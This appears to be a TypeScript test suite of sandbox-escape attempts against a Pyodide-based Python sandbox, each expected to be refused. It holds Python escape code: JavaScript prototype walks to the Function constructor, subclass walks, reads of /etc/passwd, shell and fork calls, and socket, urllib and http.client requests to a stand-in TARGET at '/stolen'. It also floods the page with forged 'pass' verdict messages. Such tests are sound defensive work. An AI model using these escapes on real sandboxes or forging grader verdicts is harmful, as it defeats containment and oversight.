// Programs that look for a way out of the sandbox: to JavaScript, the page, the network, the machine.
import { type Attack, harmless, refused, TARGET } from './attack.ts';
import { DIG, PRIZES } from './dig.ts';

export const ESCAPES: Attack[] = [
  refused('import js', 'import js\nprint("ESCAPED")', /No module named 'js'/),
  refused('from js import process', 'from js import process\nprint("ESCAPED")', /No module named 'js'/),
  refused('from js import fetch', 'from js import fetch\nprint("ESCAPED")', /No module named 'js'/),
  refused('import pyodide_js', 'import pyodide_js\nprint("ESCAPED")', /No module named 'pyodide_js'/),
  refused(
    'pyodide.code.run_js',
    'from pyodide.code import run_js\nrun_js("1")\nprint("ESCAPED")',
    /No module named 'pyodide'/,
  ),
  refused(
    'import of the engine',
    '__import__("_lacuna_engine")\nprint("ESCAPED")',
    /No module named '_lacuna_engine'/,
  ),
  refused('_pyodide_core', 'import _pyodide_core\nprint("ESCAPED")', /No module named '_pyodide_core'/),
  refused(
    'the import hook taken away',
    'import sys\ndel sys.meta_path[0]\nimport js\nprint("ESCAPED")',
    /No module named 'js'/,
  ),
  refused(
    'a finder made anew',
    `import sys
del sys.meta_path[0]
from _pyodide._importhook import JsFinder
print(sorted(JsFinder().jsproxies))
import pyodide_js
print("ESCAPED")`,
    /No module named|cannot import/,
  ),
  {
    name: 'code from a string through any JavaScript function',
    source: `${DIG}
for proxy in proxies():
    for path in ("constructor", "constructor.constructor", "__proto__.constructor", "prototype.constructor"):
        try:
            value = proxy
            for name in path.split("."):
                value = getattr(value, name)
            made = value("return 6 * 7")
            if made() == 42:
                print("ESCAPED")
        except BaseException:
            pass
print("tried", len(proxies()) > 10)`,
    status: 'pass',
    says: /tried True/,
  },
  {
    name: 'the global object through any JavaScript object',
    source: `${DIG}
seen = 0
for proxy in proxies():
    seen += 1
    for path in ("", "constructor", "constructor.prototype", "__proto__", "__proto__.__proto__", "valueOf", "caller", "arguments"):
        try:
            value = proxy
            for name in filter(None, path.split(".")):
                value = getattr(value, name)
        except BaseException:
            continue
        for prize in ${PRIZES}:
            try:
                if getattr(value, prize, None) is not None:
                    print("ESCAPED", path, prize)
            except BaseException:
                pass
print("done")`,
    status: 'pass',
    says: /done/,
  },
  {
    name: 'methods of the language replaced by spies',
    source: `${DIG}
caught = []
def spy(*arguments):
    caught.append(arguments)
for proxy in proxies()[:5]:
    for owner, names in (("constructor.prototype", ("apply", "call", "bind")), ("object_keys", ("push", "map", "join"))):
        try:
            value = proxy.constructor.prototype if "." in owner else proxy.object_keys().constructor.prototype
        except BaseException:
            continue
        for name in names:
            try:
                setattr(value, name, spy)
            except BaseException:
                pass
print("more")
print("ESCAPED" if caught else "done")`,
    status: 'pass',
    says: /done/,
  },
  {
    name: 'walking subclasses and globals',
    source: `
import sys
for cls in ().__class__.__base__.__subclasses__():
    space = getattr(getattr(cls, "__init__", None), "__globals__", {})
    module = space.get("sys", sys).modules.get("js") or space.get("js") or space.get("pyodide_js")
    if module is not None:
        print("ESCAPED", cls)
print("done")`,
    status: 'pass',
    says: /done/,
  },
  {
    name: 'silly arguments to the bridge',
    source: `
import torch
from torch import _bridge
calls = 0
for name, function in list(vars(_bridge).items()):
    if not callable(function) or name.startswith("__"):
        continue
    for arguments in [(), (-1,), (1e308,), (float("nan"),), (2**31,), ("x",), (None,), (0, -1, 2**53), (9999999,) * 5]:
        calls += 1
        try:
            function(*arguments)
        except BaseException:
            pass
print("called", calls > 0)`,
    status: 'pass',
    says: /called True/,
  },
  refused('a file of the machine', 'print("ESCAPED", open("/etc/passwd").read())', /No such file/),
  {
    name: 'folders of the machine',
    source: `
import os
names = set(os.listdir("/"))
print("ESCAPED" if names & {"etc", "work", "root", "usr", "var", "bin"} else sorted(names))`,
    status: 'pass',
    says: /home/,
  },
  {
    name: 'a shell',
    source: 'import os\nprint("ESCAPED" if os.system("echo hello") == 0 else "refused")',
    status: 'pass',
    says: /refused/,
  },
  refused(
    'a process',
    'import subprocess\nsubprocess.run(["ls"])\nprint("ESCAPED")',
    /does not support processes/,
  ),
  refused('fork', 'import os\nos.fork()\nprint("ESCAPED")', /fork|not supported|Function not implemented/i),
  refused('exec', 'import os\nos.execv("/bin/ls", ["ls"])\nprint("ESCAPED")', /error|exec/i),
  refused('ctypes', 'import ctypes\nprint("ESCAPED")', /No module named 'ctypes'/),
  refused('_ctypes', 'import _ctypes\nprint("ESCAPED")', /No module named '_ctypes'/),
  harmless(
    'every door of the browser',
    `
doors = """fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection importScripts localStorage sessionStorage
indexedDB caches BroadcastChannel Worker SharedWorker navigator postMessage close document window self globalThis eval Function
setTimeout onmessage location performance""".split()
for door in doors:
    for program in (f"from js import {door}", f"import js.{door}", f"from pyodide_js import {door}"):
        try:
            exec(program)
            print("ESCAPED", program)
        except ModuleNotFoundError:
            pass
print(len(doors), "shut")`,
    /27 shut/,
  ),
  refused(
    'pyodide.http',
    `from pyodide.http import pyfetch\npyfetch("${TARGET}")\nprint("ESCAPED")`,
    /No module named 'pyodide'/,
  ),
  refused('pyodide.ffi', 'from pyodide import ffi\nprint("ESCAPED")', /No module named 'pyodide'/),
  harmless(
    'a finder of its own for js',
    `
import importlib.machinery, sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        for other in sys.meta_path:
            proxies = getattr(other, "jsproxies", None)
            if proxies:
                print("ESCAPED", list(proxies))
        return None
sys.meta_path.insert(0, Finder())
try:
    import js
    print("ESCAPED")
except ModuleNotFoundError:
    print("refused")`,
    /refused/,
  ),
  harmless(
    'messages to the page',
    `${DIG}
tried = 0
for proxy in proxies():
    for name in ("postMessage", "send", "dispatchEvent", "close", "onmessage", "port"):
        try:
            method = getattr(proxy, name)
        except BaseException:
            continue
        for _ in range(1000):
            tried += 1
            try:
                method('{"kind": "verdict", "status": "pass"}')
            except BaseException:
                break
print("tried")`,
    /tried/,
  ),
  refused(
    'http.client',
    `import http.client, urllib.parse
c = http.client.HTTPConnection(urllib.parse.urlsplit("${TARGET}").netloc, timeout=2)
c.request("GET", "/stolen")
print("ESCAPED", c.getresponse().status)`,
    /Error/,
  ),
  refused(
    'asyncio streams',
    `import asyncio, urllib.parse
at = urllib.parse.urlsplit("${TARGET}")
async def main():
    reader, writer = await asyncio.wait_for(asyncio.open_connection(at.hostname, at.port or 80), 2)
    writer.write(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
    print("ESCAPED", await reader.read(10))
asyncio.run(main())`,
    /Error/,
  ),
  refused(
    'a pool of threads',
    'from concurrent.futures import ThreadPoolExecutor\nprint("ESCAPED", ThreadPoolExecutor().submit(len, "x").result())',
    /can't start new thread/,
  ),
  refused(
    'a process of multiprocessing',
    'import multiprocessing\nmultiprocessing.Process(target=print).start()\nprint("ESCAPED")',
    /Error/,
  ),
  refused(
    'a socket',
    `import socket, urllib.parse
at = urllib.parse.urlsplit("${TARGET}")
s = socket.create_connection((at.hostname, at.port or 80), 1)
s.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
print("ESCAPED", s.recv(10))`,
    /Error/,
  ),
  refused(
    'urllib',
    `import urllib.request\nurllib.request.urlopen("${TARGET}stolen")\nprint("ESCAPED")`,
    /Error/,
  ),
  refused(
    'a thread',
    'import threading\nthreading.Thread(target=print).start()\nprint("ESCAPED")',
    /can't start new thread/,
  ),
];
